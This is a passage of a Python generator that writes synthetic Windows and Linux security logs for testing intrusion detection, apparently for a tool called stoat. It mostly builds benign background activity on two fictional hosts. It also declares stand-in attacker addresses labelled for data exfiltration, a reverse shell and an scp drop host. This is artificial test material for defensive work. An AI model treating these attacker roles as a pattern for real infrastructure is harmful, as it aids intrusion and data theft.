#!/usr/bin/env python3
"""Write stoat's demo logs and end-to-end scenario sets (Python 3 stdlib only).

Why a generator and not recorded logs: the story has to be told exactly (one intrusion per
host, at a known pace, with known process trees) inside a realistic day of noise, and the
benign twin must be the same day with the intrusion replaced by more noise of the same size.
Recorded logs can do neither and carry personal data. Everything derives from fixed seeds, so
the output is byte-for-byte the same on every run.

Hosts (one chipmaker, corp.chipfab.example):
  fab-ws07     Windows 10 engineering workstation (Sysmon, Security, PowerShell logs)
  design-srv01 Debian design-file server with a partner portal (Sysmon for Linux)

Output (paths relative to --root, default the repository):
  demo/windows-fab-ws07.jsonl.gz, demo/linux-design-srv01.jsonl.gz    attack day
  tests/scenario/benign/<same names>   intrusion replaced by benign noise, same event count

Usage: python3 scripts/gen-scenario.py [--root DIR] [--check]
--check regenerates in memory and fails if the files on disk differ.
"""

import argparse
import gzip
import hashlib
import os
import random
import sys
from datetime import datetime, timedelta, timezone

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import evtshape as E  # noqa: E402

DAY0 = datetime(2026, 11, 19, 6, 0, 0, tzinfo=timezone.utc)
DAY1 = DAY0 + timedelta(days=1)
DOMAIN = "corp.chipfab.example"
ATTACKER_WEB = "203.0.113.50"   # Windows exfil server
ATTACKER_LNX = "203.0.113.17"   # Linux reverse shell / upload server
ATTACKER_SSH = "198.51.100.23"  # Linux scp drop host
VPN_IP = "10.99.0.23"           # VPN pool address used with the stolen credential


def at(h, m=0, s=0.0, day=0):
    """Time on the scenario day: hours 6..23 are 2026-11-19, 0..5 belong to the next day."""
    base = DAY0.replace(hour=0)
    if h < 6:
        day += 1
    if float(s).is_integer():
        # whole seconds look synthetic: add a fixed sub-second part derived from the time itself
        frac = int(hashlib.sha256(("%d:%d:%d:%s" % (day, h, m, s)).encode()).hexdigest()[:6], 16)
        s = s + (frac % 997000) / 1e6
    return base + timedelta(days=day, hours=h, minutes=m, seconds=s)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f")


class Proc:
    __slots__ = ("guid", "pid", "image", "cmd", "user", "logon", "logon_guid", "session",
                 "integrity", "cwd", "start")

    def __init__(self, **kw):
        for k in self.__slots__:
            setattr(self, k, kw.get(k))


class Host:
    """Collects the events of one host; records ids and order are fixed at write time."""

    def __init__(self, name, linux, seed):
        self.name = name
        self.linux = linux
        self.rng = random.Random(seed)
        self.events = []  # (time, seq, builder)
        self.seq = 0
        self.pidset = set()
        self.next_pid = 412300
        self.prefix = hashlib.sha256(name.encode()).hexdigest()[:8]

    # -- identity helpers ------------------------------------------------------------------
    def _pid(self):
        if self.linux:
            self.next_pid += self.rng.randint(3, 40)
            return self.next_pid
        while True:
            p = self.rng.randrange(1000, 24000, 4)
            if p not in self.pidset:
                self.pidset.add(p)
                return p

    def _guid(self, t, pid):
        h = hashlib.sha256(("%s%s%d" % (self.name, iso(t), pid)).encode()).hexdigest()
        mid = "%04x-%04x" % (int(t.timestamp()) & 0xFFFF, (int(t.timestamp()) >> 16) & 0xFFFF)
        g = "%s-%s-%s-%s" % (self.prefix, mid, h[:4], h[4:16])
        return "{%s}" % (g.lower() if self.linux else g.upper())

    def proc(self, image, cmd, user, start, pid=None, logon="0x3e7", session=0,
             integrity="System", cwd=None, logon_guid=None):
        """A process that exists without a creation event in the window (started earlier)."""
        pid = pid or self._pid()
        return Proc(guid=self._guid(start, pid), pid=pid, image=image, cmd=cmd, user=user,
                    logon=logon, logon_guid=logon_guid or self.logon_guid(user, logon),
                    session=session, integrity=integrity,
                    cwd=cwd or ("/" if self.linux else "C:\\Windows\\system32\\"), start=start)

    def logon_guid(self, user, logon):
        h = hashlib.sha256(("%s%s%s" % (self.name, user, logon)).encode()).hexdigest()
        g = "%s-%s-%s-%s-%s" % (self.prefix, h[:4], h[4:8], h[8:12], h[12:24])
        return "{%s}" % (g.lower() if self.linux else g.upper())

    def _add(self, t, builder):
        if not (DAY0 <= t < DAY1):
            return
        self.seq += 1
        self.events.append((t, self.seq, builder))

    # -- Sysmon events ---------------------------------------------------------------------
    def spawn(self, t, parent, image, cmd, user=None, dur=None, cwd=None, integrity=None,
              meta=None, logon=None, session=None, end=True):
        """Process create (EID 1) and, unless end is False, terminate (EID 5) after dur s."""
        user = user or parent.user
        pid = self._pid()
        p = Proc(guid=self._guid(t, pid), pid=pid, image=image, cmd=cmd, user=user,
                 logon=logon if logon is not None else parent.logon,
                 logon_guid=None, session=session if session is not None else parent.session,
                 integrity=integrity or parent.integrity, cwd=cwd or parent.cwd, start=t)
        p.logon_guid = parent.logon_guid if logon is None else self.logon_guid(user, p.logon)
        if self.linux:
            m = ("-", "-", "-", "-", "-")
            hashes = "-"
        else:
            m = meta or win_meta(image)
            hashes = "SHA256=" + hashlib.sha256(image.lower().encode()).hexdigest().upper()
        f = {"ProcessGuid": p.guid, "ProcessId": p.pid, "Image": image,
             "FileVersion": m[0], "Description": m[1], "Product": m[2], "Company": m[3],
             "OriginalFileName": m[4], "CommandLine": cmd, "CurrentDirectory": p.cwd,
             "User": user, "LogonGuid": p.logon_guid, "LogonId": p.logon,
             "TerminalSessionId": p.session, "IntegrityLevel": p.integrity, "Hashes": hashes,
             "ParentProcessGuid": parent.guid, "ParentProcessId": parent.pid,
             "ParentImage": parent.image, "ParentCommandLine": parent.cmd,
             "ParentUser": parent.user}
        self._add(t, ("sysmon", 1, f))
        if end:
            d = dur if dur is not None else self.rng.uniform(0.02, 1.5)
            self.terminate(t + timedelta(seconds=d), p)
        return p

    def terminate(self, t, p):
        if not self.linux:
            return  # the Windows Sysmon configuration of the demo does not log EID 5
        self._add(t, ("sysmon", 5, {"ProcessGuid": p.guid, "ProcessId": p.pid,
                                    "Image": p.image, "User": p.user}))

    def net(self, t, p, dst, dport, src=None, sport=None, initiated=True, dhost="-",
            proto="tcp"):
        src = src or self.ip
        sport = sport or self.rng.randint(33000, 60999)
        f = {"ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image, "User": p.user,
             "Protocol": proto, "Initiated": "true" if initiated else "false",
             "SourceIsIpv6": "false", "SourceIp": src,
             "SourceHostname": "-" if self.linux else self.name + "." + DOMAIN,
             "SourcePort": sport, "SourcePortName": "-", "DestinationIsIpv6": "false",
             "DestinationIp": dst, "DestinationHostname": dhost, "DestinationPort": dport,
             "DestinationPortName": {443: "https", 80: "http", 22: "ssh", 445: "microsoft-ds",
                                     88: "kerberos", 389: "ldap", 135: "epmap",
                                     53: "domain"}.get(dport, "-")}
        if not initiated:
            f["SourceIp"], f["DestinationIp"] = dst, src
            f["SourcePort"], f["DestinationPort"] = sport, dport
            f["SourceHostname"], f["DestinationHostname"] = dhost, f["SourceHostname"]
        self._add(t, ("sysmon", 3, f))

    def file(self, t, p, path):
        self._add(t, ("sysmon", 11, {"ProcessGuid": p.guid, "ProcessId": p.pid,
                                     "Image": p.image, "TargetFilename": path,
                                     "CreationUtcTime": iso(t).replace("T", " ")[:23],
                                     "User": p.user}))

    def dns(self, t, p, name, result):
        self._add(t, ("sysmon", 22, {"ProcessGuid": p.guid, "ProcessId": p.pid,
                                     "QueryName": name, "QueryStatus": "0",
                                     "QueryResults": result, "Image": p.image,
                                     "User": p.user}))

    # -- Windows logs ----------------------------------------------------------------------
    def sec(self, t, eid, fields, failure=False):
        self._add(t, ("sec", eid, (fields, failure)))

    def cleared(self, t, fields):
        self._add(t, ("1102", 1102, fields))

    def ps(self, t, text, sid, path=""):
        self._add(t, ("ps", 4104, (text, sid, path)))

    # -- output ----------------------------------------------------------------------------
    def render(self):
        self.events.sort(key=lambda e: (e[0], e[1]))
        recs = {}
        out = []
        fqdn = self.name if self.linux else self.name + "." + DOMAIN
        for t, _, (kind, eid, data) in self.events:
            ch = {"sysmon": "sysmon", "sec": "sec", "1102": "sec", "ps": "ps"}[kind]
            recs[ch] = recs.get(ch, {"sysmon": 88210, "sec": 1402877, "ps": 20417}[ch]) + 1
            rec = recs[ch]
            ts = iso(t)
            if kind == "sysmon":
                ev = E.sysmon(eid, dict(data), ts, rec, fqdn, linux=self.linux)
            elif kind == "sec":
                ev = E.security(eid, data[0], ts, rec, fqdn, failure=data[1])
            elif kind == "1102":
                ev = E.log_cleared(data, ts, rec, fqdn)
            else:
                text, sid, path = data
                ev = E.scriptblock(text, ts, rec, fqdn, sid, path=path,
                                   sbid=E.guid("sb%s%s" % (ts, text), upper=False,
                                               braces=False))
            out.append(E.dumps(ev))
        return "\n".join(out) + "\n"


WIN_META = {
    "cmd.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Windows Command Processor", "Cmd.Exe"),
    "powershell.exe": ("10.0.19041.3996 (WinBuild.160101.0800)", "Windows PowerShell", "PowerShell.EXE"),
    "conhost.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Console Window Host", "CONHOST.EXE"),
    "whoami.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "whoami - displays logged on user information", "whoami.exe"),
    "net.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Net Command", "net.exe"),
    "net1.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Net Command", "net1.exe"),
    "nltest.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Microsoft\u00ae Logon Server Test Utility", "nltestrk.exe"),
    "ipconfig.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "IP Configuration Utility", "ipconfig.exe"),
    "systeminfo.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Displays system information", "sysinfo.exe"),
    "netstat.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "TCP/IP Netstat Command", "netstat.exe"),
    "quser.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Query User Utility", "quser.exe"),
    "arp.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "TCP/IP Arp Command", "arp.exe"),
    "tasklist.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Lists the current running tasks", "tasklist.exe"),
    "wmic.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "WMI Commandline Utility", "wmic.exe"),
    "certutil.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "CertUtil.exe", "CertUtil.exe"),
    "rundll32.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "reg.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Registry Console Tool", "reg.exe"),
    "makecab.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Microsoft\u00ae Cabinet Maker", "makecab.exe"),
    "wevtutil.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Eventing Command Line Utility", "wevtutil.exe"),
    "curl.exe": ("8.4.0", "The curl executable", "curl.exe"),
    "hostname.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Hostname APP", "hostname.exe"),
    "taskhostw.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Host Process for Windows Tasks", "taskhostw.exe"),
    "wsmprovhost.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Host process for WinRM plug-ins", "wsmprovhost.exe"),
}


def win_meta(image):
    base = image.split("\\")[-1]
    low = base.lower()
    if low in WIN_META:
        v, d, o = WIN_META[low]
        return (v, d, "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", o)
    vendors = {
        "msedge.exe": ("131.0.2903.51", "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe"),
        "outlook.exe": ("16.0.17928.20156", "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"),
        "excel.exe": ("16.0.17928.20156", "Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe"),
        "winword.exe": ("16.0.17928.20156", "Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe"),
        "acrobat.exe": ("24.4.20220.0", "Adobe Acrobat", "Adobe Acrobat", "Adobe Systems Incorporated", "Acrobat.exe"),
        "klayout_app.exe": ("0.29.8", "KLayout", "KLayout", "KLayout project", "klayout_app.exe"),
        "python.exe": ("3.11.9", "Python", "Python", "Python Software Foundation", "python.exe"),
        "git.exe": ("2.47.0.windows.2", "Git for Windows", "Git", "The Git Development Community", "git.exe"),
        "code.exe": ("1.95.3", "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "electron.exe"),
        "7z.exe": ("24.08", "7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"),
        "rar.exe": ("7.01", "Command line RAR", "WinRAR", "Alexander Roshal", "Command line RAR"),
        "ms-teams.exe": ("24295.605.3225.8804", "Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "ms-teams.exe"),
        "onedrive.exe": ("24.211.1020.0001", "Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "OneDrive.exe"),
        "mpcmdrun.exe": ("4.18.24090.11", "Microsoft Malware Protection Command Line Utility", "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", "MpCmdRun.exe"),
        "microsoftedgeupdate.exe": ("1.3.195.31", "Microsoft Edge Update", "Microsoft Edge Update", "Microsoft Corporation", "msedgeupdate.dll"),
    }
    if low in vendors:
        return vendors[low]
    name = base[:-4] if low.endswith(".exe") else base
    return ("10.0.19041.1 (WinBuild.160101.0800)", name, "Microsoft\u00ae Windows\u00ae Operating System",
            "Microsoft Corporation", base)


# ---------------------------------------------------------------------------------------------
# Linux: design-srv01
# ---------------------------------------------------------------------------------------------

L_UID = {"root": 0, "eng1": 1001, "eng2": 1002, "dev1": 1003, "ops1": 1004, "backup": 34,
         "www-data": 33}
NOLOGIN = 4294967295
MIRROR = "10.20.1.10"   # mirror.corp.chipfab.example (apt, pypi, pdk drops)
GITSRV = "10.20.1.20"   # git.corp.chipfab.example
BACKUP = "10.20.9.5"    # backup01.corp.chipfab.example
PROXY = "10.20.0.5"     # reverse proxy in front of the partner portal

BIN = {"git": "/usr/bin/git", "make": "/usr/bin/make", "python3": "/usr/bin/python3.11",
       "vim": "/usr/bin/vim.basic", "less": "/usr/bin/less", "grep": "/usr/bin/grep",
       "cp": "/usr/bin/cp", "ls": "/usr/bin/ls", "du": "/usr/bin/du", "find": "/usr/bin/find",
       "tail": "/usr/bin/tail", "df": "/usr/bin/df", "klayout": "/usr/bin/klayout",
       "iverilog": "/usr/bin/iverilog", "vvp": "/usr/bin/vvp", "tar": "/usr/bin/tar",
       "curl": "/usr/bin/curl", "wget": "/usr/bin/wget", "sha256sum": "/usr/bin/sha256sum",
       "sudo": "/usr/bin/sudo", "systemctl": "/usr/bin/systemctl", "free": "/usr/bin/free",
       "uptime": "/usr/bin/uptime", "journalctl": "/usr/bin/journalctl", "id": "/usr/bin/id",
       "uname": "/usr/bin/uname", "ip": "/usr/sbin/ip", "ss": "/usr/bin/ss", "last": "/usr/bin/last",
       "w": "/usr/bin/w", "crontab": "/usr/bin/crontab", "cat": "/usr/bin/cat",
       "rsync": "/usr/bin/rsync", "ssh": "/usr/bin/ssh", "gcc": "/usr/bin/x86_64-linux-gnu-gcc-12",
       "head": "/usr/bin/head", "wc": "/usr/bin/wc", "diff": "/usr/bin/diff", "mkdir": "/usr/bin/mkdir",
       "rm": "/usr/bin/rm", "base64": "/usr/bin/base64", "split": "/usr/bin/split", "scp": "/usr/bin/scp",
       "tee": "/usr/bin/tee", "bash": "/usr/bin/bash", "sh": "/usr/bin/dash", "whoami": "/usr/bin/whoami",
       "yosys": "/usr/bin/yosys", "gzip": "/usr/bin/gzip", "stat": "/usr/bin/stat", "awk": "/usr/bin/gawk",
       "sort": "/usr/bin/sort", "mv": "/usr/bin/mv", "chmod": "/usr/bin/chmod", "pytest": "/usr/bin/python3.11"}


class LinuxHost(Host):
    def __init__(self, seed):
        Host.__init__(self, "design-srv01", True, seed)
        self.ip = "10.20.4.11"
        self.pid_sec = {}
        boot = datetime(2026, 11, 3, 4, 12, 9, tzinfo=timezone.utc)
        self.systemd = self.proc("/usr/lib/systemd/systemd", "/sbin/init", "root", boot, pid=1,
                                 logon=NOLOGIN, session=NOLOGIN, integrity="no level")
        self.cron = self.proc("/usr/sbin/cron", "/usr/sbin/cron -f -P", "root", boot, pid=612,
                              logon=NOLOGIN, session=NOLOGIN, integrity="no level")
        self.sshd = self.proc("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                              "root", boot, pid=721, logon=NOLOGIN, session=NOLOGIN,
                              integrity="no level")
        self.fpm = self.proc("/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data",
                             datetime(2026, 11, 18, 9, 40, 2, tzinfo=timezone.utc), pid=1843,
                             logon=NOLOGIN, session=NOLOGIN, integrity="no level",
                             cwd="/var/www/portal")
        self.nginx = self.proc("/usr/sbin/nginx", "nginx: worker process", "www-data", boot,
                               pid=904, logon=NOLOGIN, session=NOLOGIN, integrity="no level")
        self.ses = 180

    def _pid(self):
        # Linux hands out pids in increasing order: derive them from the time of the spawn.
        return self._cur_pid

    def spawn(self, t, parent, image, cmd, **kw):
        sec = int((t - DAY0).total_seconds())
        k = self.pid_sec.get(sec, 0)
        self.pid_sec[sec] = k + 1
        self._cur_pid = 300000 + sec * 9 + k
        return Host.spawn(self, t, parent, image, cmd, **kw)

    def new_session(self):
        self.ses += 1
        return self.ses

    def cron_job(self, t, user, cmdline, child=None, child_dur=0.3):
        ses = self.new_session()
        c = self.spawn(t, self.cron, "/usr/sbin/cron", "/usr/sbin/CRON -f -P", user="root",
                       dur=child_dur + 0.2, session=ses, logon=L_UID[user])
        s = self.spawn(t + timedelta(milliseconds=4), c, "/usr/bin/dash", "/bin/sh -c " + cmdline,
                       user=user, dur=child_dur + 0.1, logon=L_UID[user],
                       cwd="/home/%s" % user if user not in ("root", "www-data", "backup") else "/")
        if child:
            img, cmd = child
            self.spawn(t + timedelta(milliseconds=9), s, img, cmd, dur=child_dur)
        return s


def l_cmd(h, t, shell, line, rng, dur=None, user=None):
    """One command typed in an interactive shell. Returns (proc, end time)."""
    exe = line.split()[0]
    image = BIN.get(exe, "/usr/bin/" + exe)
    d = dur if dur is not None else rng.uniform(0.05, 2.5)
    p = h.spawn(t, shell, image, line, dur=d, user=user)
    return p, t + timedelta(seconds=d)


def l_session(h, t0, user, src, lines, rng, tty=1):
    """An SSH login of user from src that runs lines, each (gap_seconds, line, extra)."""
    ses = h.new_session()
    uid = L_UID[user]
    h.net(t0, h.sshd, src, 22, initiated=False, sport=rng.randint(50000, 60999))
    priv = h.spawn(t0 + timedelta(milliseconds=40), h.sshd, "/usr/sbin/sshd",
                   "sshd: %s [priv]" % user, user="root", end=False, session=ses, logon=uid)
    child = h.spawn(t0 + timedelta(milliseconds=610), priv, "/usr/sbin/sshd",
                    "sshd: %s@pts/%d" % (user, tty), user=user, end=False)
    shell = h.spawn(t0 + timedelta(milliseconds=655), child, "/usr/bin/bash", "-bash",
                    user=user, end=False, cwd="/home/%s" % user)
    t = t0 + timedelta(seconds=2)
    for gap, line, extra in lines:
        t += timedelta(seconds=gap)
        p, tend = l_cmd(h, t, shell, line, rng, dur=(extra or {}).get("dur"))
        if extra:
            if "net" in extra:
                for (dst, port) in extra["net"]:
                    h.net(t + timedelta(milliseconds=80), p, dst, port)
            if "child" in extra:
                for img, cmd, net in extra["child"]:
                    c = h.spawn(t + timedelta(milliseconds=30), p, img, cmd,
                                dur=max(0.1, (tend - t).total_seconds() - 0.1))
                    for dst, port in net:
                        h.net(t + timedelta(milliseconds=90), c, dst, port)
            if "file" in extra:
                h.file(tend - timedelta(milliseconds=30), p, extra["file"])
        t = tend
    t += timedelta(seconds=rng.uniform(5, 60))
    h.terminate(t, shell)
    h.terminate(t + timedelta(milliseconds=12), child)
    h.terminate(t + timedelta(milliseconds=30), priv)
    return t


def gitfetch(repo):
    return {"child": [(BIN["ssh"], "/usr/bin/ssh git@git.%s \"git-upload-pack '%s'\"" % (DOMAIN, repo),
                       [(GITSRV, 22)])], "dur": 3.1}


def eng_lines(rng, user, n):
    blk = rng.choice(["sram", "pll", "serdes", "ldo", "io_ring"])
    base = "/srv/design/n3/blocks/%s" % blk
    pool = [
        ("git -C /srv/design/n3 pull --ff-only", gitfetch("/design/n3.git")),
        ("git -C /srv/design/n3 status --short", None),
        ("git -C /srv/design/n3 log --oneline -5", None),
        ("git -C /srv/design/n3 diff --stat", None),
        ("ls -la %s" % base, None),
        ("ls -la /srv/design/n3/tapeout", None),
        ("vim %s/rtl/%s_ctrl.sv" % (base, blk), {"dur": rng.uniform(120, 900)}),
        ("less /srv/design/n3/reports/drc_summary.txt", {"dur": rng.uniform(20, 200)}),
        ("grep -rn VIOLATION /srv/design/n3/reports", None),
        ("du -sh %s" % base, None),
        ("df -h /srv", None),
        ("find %s -name *.gds -newer /srv/design/n3/Makefile" % base, None),
        ("tail -n 50 /srv/design/n3/logs/drc.log", None),
        ("klayout -b -r /srv/design/n3/drc/n3_drc.lydrc -rd input=%s/out/%s.gds" % (base, blk),
         {"dur": rng.uniform(90, 600)}),
        ("python3 /srv/design/n3/scripts/check_density.py --gds %s/out/%s.gds" % (base, blk),
         {"dur": rng.uniform(5, 40)}),
        ("make -C %s lef" % base,
         {"child": [(BIN["python3"], "python3 /srv/design/n3/scripts/gen_lef.py --block %s" % blk, [])],
          "dur": rng.uniform(10, 60)}),
        ("iverilog -g2012 -o /tmp/sim_%s/tb.vvp %s/tb/tb_%s.sv %s/rtl/%s_ctrl.sv" % (user, base, blk, base, blk), None),
        ("vvp /tmp/sim_%s/tb.vvp" % user, {"dur": rng.uniform(3, 30)}),
        ("cp %s/out/%s.lef /srv/design/n3/lef/" % (base, blk), None),
        ("git -C /srv/design/n3 add -A", None),
        ("git -C /srv/design/n3 commit -m \"%s: fix spacing on M3 straps\"" % blk, None),
        ("git -C /srv/design/n3 push", {"child": [(BIN["ssh"], "/usr/bin/ssh git@git.%s \"git-receive-pack '/design/n3.git'\"" % DOMAIN, [(GITSRV, 22)])], "dur": 2.2}),
        ("head -n 40 %s/reports/timing.rpt" % base, None),
        ("wc -l %s/reports/timing.rpt" % base, None),
        ("tar czf /home/%s/review-%s.tgz %s/reports" % (user, blk, base), {"dur": 2.0}),
    ]
    return [(rng.uniform(15, 420),) + rng.choice(pool) for _ in range(n)]


def dev_lines(rng, n):
    ver = "2026.11"
    pool = [
        ("curl -fsSL -o /tmp/pdk-n3-%s.tgz https://mirror.%s/pdk/n3/pdk-n3-%s.tgz" % (ver, DOMAIN, ver),
         {"net": [(MIRROR, 443)], "dur": 8.0, "file": "/tmp/pdk-n3-%s.tgz" % ver}),
        ("tar xzf /tmp/pdk-n3-%s.tgz -C /srv/design/pdk" % ver, {"dur": 12.0}),
        ("curl -s https://mirror.%s/api/builds/latest" % DOMAIN, {"net": [(MIRROR, 443)]}),
        ("python3 -m pip install --index-url https://mirror.%s/pypi/simple -r requirements.txt" % DOMAIN,
         {"net": [(MIRROR, 443)], "dur": 14.0}),
        ("python3 -m pytest -q tests", {"dur": 25.0}),
        ("git pull", gitfetch("/tools/flowkit.git")),
        ("git status", None),
        ("git diff", {"dur": 6.0}),
        ("make -j4", {"child": [(BIN["gcc"], "x86_64-linux-gnu-gcc-12 -O2 -c src/gdsread.c -o build/gdsread.o", []),
                                 (BIN["gcc"], "x86_64-linux-gnu-gcc-12 -O2 -c src/oasis.c -o build/oasis.o", [])],
                      "dur": 9.0}),
        ("wget -q https://mirror.%s/tools/yosys-0.47.tar.gz -O /tmp/yosys-0.47.tar.gz" % DOMAIN,
         {"net": [(MIRROR, 443)], "dur": 5.0, "file": "/tmp/yosys-0.47.tar.gz"}),
        ("sha256sum /tmp/yosys-0.47.tar.gz", None),
        ("yosys -q -p \"read_verilog rtl/top.v; synth -top top; stat\"", {"dur": 40.0}),
        ("vim flowkit/gds.py", {"dur": 400.0}),
        ("ls -la", None),
        ("python3 flowkit/cli.py lint /srv/design/n3/blocks", {"dur": 6.0}),
    ]
    return [(rng.uniform(20, 500),) + rng.choice(pool) for _ in range(n)]


def linux_base(h, seed):
    rng = random.Random("%s:linux:base" % seed)
    # cron: portal scheduler every 15 min, php sessionclean at :09/:39, cron.hourly at :17
    t = at(6, 2)
    while t < DAY1:
        h.cron_job(t + timedelta(seconds=rng.uniform(0, 0.8)), "www-data",
                   "cd /var/www/portal && php artisan schedule:run >> /dev/null 2>&1",
                   ("/usr/bin/php8.2", "php artisan schedule:run"), child_dur=rng.uniform(0.4, 1.8))
        t += timedelta(minutes=15)
    t = at(6, 9)
    while t < DAY1:
        h.cron_job(t + timedelta(seconds=rng.uniform(0, 0.8)), "root",
                   "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi")
        t += timedelta(minutes=30)
    t = at(6, 17)
    while t < DAY1:
        h.cron_job(t + timedelta(seconds=rng.uniform(0, 0.8)), "root",
                   "cd / && run-parts --report /etc/cron.hourly", ("/usr/bin/run-parts", "run-parts --report /etc/cron.hourly"))
        t += timedelta(hours=1)
    # daily jobs
    s = h.cron_job(at(6, 25, 1.2), "root",
                   "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                   None, child_dur=40)
    rp = h.spawn(at(6, 25, 1.3), s, "/usr/bin/run-parts", "run-parts --report /etc/cron.daily", dur=39)
    for i, (img, cmd) in enumerate([("/usr/bin/dash", "/bin/sh /etc/cron.daily/apt-compat"),
                                    ("/usr/bin/dash", "/bin/sh /etc/cron.daily/dpkg"),
                                    ("/usr/bin/dash", "/bin/sh /etc/cron.daily/man-db"),
                                    ("/usr/bin/dash", "/bin/sh /etc/cron.daily/sysstat")]):
        h.spawn(at(6, 25, 2 + i * 8), rp, img, cmd, dur=6)
    lr = h.spawn(at(0, 0, 0.4), h.systemd, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf",
                 user="root", dur=3.5, logon=NOLOGIN, session=NOLOGIN)
    h.spawn(at(0, 0, 1.1), lr, "/usr/bin/dash", "sh -c invoke-rc.d rsyslog rotate > /dev/null", dur=0.6)
    h.spawn(at(0, 0, 2.0), lr, "/usr/bin/dash", "sh -c if [ -d /run/systemd/system ]; then systemctl kill --kill-whom=main --signal=SIGUSR1 php8.2-fpm.service; fi", dur=0.4)
    ad = h.spawn(at(6, 47, 12), h.systemd, "/usr/bin/dash", "/bin/sh /usr/lib/apt/apt.systemd.daily update",
                 user="root", dur=30, logon=NOLOGIN, session=NOLOGIN)
    ag = h.spawn(at(6, 47, 14), ad, "/usr/bin/apt-get", "apt-get -qq -y update", dur=20)
    m = h.spawn(at(6, 47, 15), ag, "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", user="_apt", dur=18)
    h.net(at(6, 47, 15.2), m, MIRROR, 80)
    # PHP mail() from the portal (hard case for the web-server-shell rule)
    for hh, mm in ((9, 41), (13, 5), (16, 22)):
        s = h.spawn(at(hh, mm, rng.uniform(0, 59)), h.fpm, "/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i",
                    dur=0.5, cwd="/var/www/portal")
        h.spawn(s.start + timedelta(milliseconds=6), s, "/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i", dur=0.4)
    # nightly backup by the backup user to the internal backup server (hard case)
    s = h.cron_job(at(1, 30, 0.6), "backup", "/usr/local/sbin/nightly-backup.sh", None, child_dur=2400)
    b = h.spawn(at(1, 30, 0.7), s, "/usr/bin/bash", "/bin/bash /usr/local/sbin/nightly-backup.sh", dur=2399)
    t = at(1, 30, 1)
    steps = [("tar --zstd -cf /var/backups/design-20261120.tar.zst /srv/design", 860, "/var/backups/design-20261120.tar.zst"),
             ("tar --zstd -cf /var/backups/photos-20261120.tar.zst /srv/photos", 540, "/var/backups/photos-20261120.tar.zst"),
             ("tar czf /var/backups/specs-20261120.tgz /srv/specs", 95, "/var/backups/specs-20261120.tgz")]
    for cmd, d, out in steps:
        p = h.spawn(t, b, BIN["tar"], cmd, dur=d)
        h.file(t + timedelta(seconds=0.2), p, out)
        t += timedelta(seconds=d + 1)
    for cmd, d in (("rsync -a --delete /var/backups/ backup@%s:/backup/design-srv01/archives/" % BACKUP, 520),
                   ("rsync -a --delete /srv/design/ backup@%s:/backup/design-srv01/design/" % BACKUP, 310)):
        p = h.spawn(t, b, BIN["rsync"], cmd, dur=d)
        sp = h.spawn(t + timedelta(milliseconds=20), p, BIN["ssh"],
                     "ssh -l backup %s rsync --server -logDtpre.iLsfxCIvu --delete . /backup/design-srv01/" % BACKUP,
                     dur=d - 0.1)
        h.net(t + timedelta(milliseconds=60), sp, BACKUP, 22)
        t += timedelta(seconds=d + 1)
    h.spawn(t, b, BIN["find"], "find /var/backups -name *.tar.zst -mtime +7 -delete", dur=0.3)
    # people
    l_session(h, at(7, 48, 11), "eng1", "10.10.7.57", eng_lines(rng, "eng1", 26), rng, tty=0)
    l_session(h, at(13, 2, 40), "eng1", "10.10.7.57", eng_lines(rng, "eng1", 18), rng, tty=0)
    l_session(h, at(8, 31, 5), "eng2", "10.10.7.61", eng_lines(rng, "eng2", 30), rng, tty=1)
    l_session(h, at(9, 12, 30), "dev1", "10.10.8.14", dev_lines(rng, 24), rng, tty=2)
    l_session(h, at(14, 20, 30), "dev1", "10.10.8.14", dev_lines(rng, 16), rng, tty=2)
    aptget = {"child": [("/usr/bin/apt-get", "apt-get update", [(MIRROR, 80)])], "dur": 9.0}
    l_session(h, at(9, 1, 2), "ops1", "10.10.9.3", [
        (4, "id", None), (31, "uname -a", None), (58, "ip a", None), (40, "df -h", None),
        (22, "sudo apt-get update", aptget), (80, "systemctl status nginx", None),
        (45, "journalctl -u nginx --since today", {"dur": 30.0}), (60, "free -m", None)], rng, tty=3)
    l_session(h, at(13, 10, 12), "ops1", "10.10.9.3", [
